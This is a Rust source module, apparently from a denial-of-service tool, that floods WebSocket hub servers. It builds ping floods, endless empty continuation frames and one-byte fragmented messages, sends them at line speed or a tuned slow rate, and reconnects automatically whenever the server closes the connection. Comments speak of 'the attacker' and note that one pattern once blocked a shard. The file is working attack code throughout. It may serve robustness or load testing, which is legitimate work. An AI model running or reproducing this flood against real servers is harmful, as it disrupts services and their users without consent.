//! A tab that sends at line speed, reads everything it gets, and reconnects when it is closed.

use std::io::{self, Write as _};
use std::net::TcpStream;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use crate::connection::is_late;
use crate::frame::{CONTINUATION, PING, RECORD_END, TEXT, frame};
use crate::tally::Tally;
use crate::{Connection, Target};

/// The size of a write.
const PIECE: usize = 64 * 1024;

/// How soon a closed tab reconnects.
const AGAIN: Duration = Duration::from_millis(100);

/// The traffic.
pub(crate) struct Flood {
    /// What is sent once.
    first: Vec<u8>,
    /// What is sent repeatedly.
    then: Vec<u8>,
    /// The largest number of bytes per second.
    per_second: u64,
}

/// 8 Gbit/s, as fast as any node reads: the attacker's socket must never be empty, and bytes that the node does not
/// read cost the attacker no processor time.
const LINE_SPEED: u64 = 1_000_000_000;

/// 20 Mbit/s; a tenth of it once blocked a shard, by work proportional to what a message has already.
const SLOW_LINE: u64 = 2_500_000;

/// Hub protocol pings.
pub(crate) fn hub_pings() -> Flood {
    let mut ping = b"{\"type\":6}".to_vec();
    ping.push(RECORD_END);
    Flood { first: Vec::new(), then: frame(TEXT, true, &ping).repeat(4096), per_second: LINE_SPEED }
}

/// Empty pings.
pub(crate) fn web_socket_pings() -> Flood {
    Flood { first: Vec::new(), then: frame(PING, true, b"").repeat(8192), per_second: LINE_SPEED }
}

/// An endless message without bytes.
pub(crate) fn empty_fragments() -> Flood {
    let (first, then) = (frame(TEXT, false, b""), frame(CONTINUATION, false, b"").repeat(8192));
    Flood { first, then, per_second: LINE_SPEED }
}

/// Messages of this length with one byte per fragment, and an empty fragment before every second one.
pub(crate) fn small_fragments(message_bytes: usize) -> Flood {
    let mut message = b"{\"type\":6,\"x\":\"".to_vec();
    message.resize(message_bytes.saturating_sub(3).max(message.len()), b'x');
    message.extend(b"\"}");
    message.push(RECORD_END);
    let last = message.len() - 1;
    let mut then = Vec::with_capacity(message.len() * 10);
    for (at, byte) in message.iter().enumerate() {
        let opcode = if at == 0 { TEXT } else { CONTINUATION };
        then.extend(frame(opcode, at == last, &[*byte]));
        if at < last && at % 2 == 0 {
            then.extend(frame(CONTINUATION, false, b""));
        }
    }
    Flood { first: Vec::new(), then, per_second: SLOW_LINE }
}

/// Opens the tab and starts; it reconnects when the node has closed it.
pub(crate) fn start(target: &Target, tally: &Arc<Tally>, flood: Flood) -> io::Result<Vec<JoinHandle<()>>> {
    let mut next = Some(Connection::open(target)?);
    let (target, tally) = (target.clone(), Arc::clone(tally));
    Ok(vec![thread::spawn(move || {
        while tally.goes_on() {
            match next.take().map_or_else(|| Connection::open(&target), Ok) {
                Ok(connection) => {
                    Tally::add(&tally.opened, 1);
                    flood.pour(connection, &tally);
                }
                Err(_) => Tally::add(&tally.refused, 1),
            }
            thread::sleep(AGAIN);
        }
    })])
}

impl Flood {
    /// Sends on one thread and reads on this one, until the node ends the connection or the attack is over.
    fn pour(&self, mut connection: Connection, tally: &Tally) {
        let ended = AtomicBool::new(false);
        thread::scope(|scope| {
            if let Ok(mut socket) = connection.socket() {
                // The reading side learns from the node why it ended.
                let goes_on = || tally.goes_on() && !ended.load(Ordering::Relaxed);
                scope.spawn(move || self.send(&mut socket, tally, goes_on));
            }
            if let Some(ending) = connection.drain(|| tally.goes_on()) {
                tally.ended(ending);
            }
            ended.store(true, Ordering::Relaxed);
        });
    }

    fn send(&self, socket: &mut TcpStream, tally: &Tally, goes_on: impl Fn() -> bool) -> io::Result<()> {
        socket.write_all(&self.first)?;
        let (begun, mut sent, mut at) = (Instant::now(), 0u64, 0);
        while goes_on() {
            let end = (at + PIECE).min(self.then.len());
            match socket.write(&self.then[at..end]) {
                Ok(0) => return Ok(()),
                Ok(count) => {
                    Tally::add(&tally.bytes, count);
                    (sent, at) = (sent + count as u64, (at + count) % self.then.len());
                }
                Err(error) if is_late(&error) => {}
                Err(error) => return Err(error),
            }
            let due = Duration::from_secs_f64(sent as f64 / self.per_second as f64);
            thread::sleep(due.saturating_sub(begun.elapsed()));
        }
        Ok(())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_message_in_small_fragments_is_one_message() {
        let flood = small_fragments(1000);
        let (mut rest, mut message, mut lasts) = (&flood.then[..], Vec::new(), 0);
        while let [first, second, mask @ ..] = rest {
            let length = usize::from(second & 0x7f);
            assert!(length <= 1);
            message.extend(mask[4..4 + length].iter().zip(mask).map(|(byte, mask)| byte ^ mask));
            lasts += usize::from(first & 0x80 != 0);
            rest = &mask[4 + length..];
        }
        assert_eq!((message.len(), message.last(), lasts), (1000, Some(&RECORD_END), 1));
        assert!(message.starts_with(b"{\"type\":6,") && message.ends_with(b"x\"}\x1e"));
    }
}
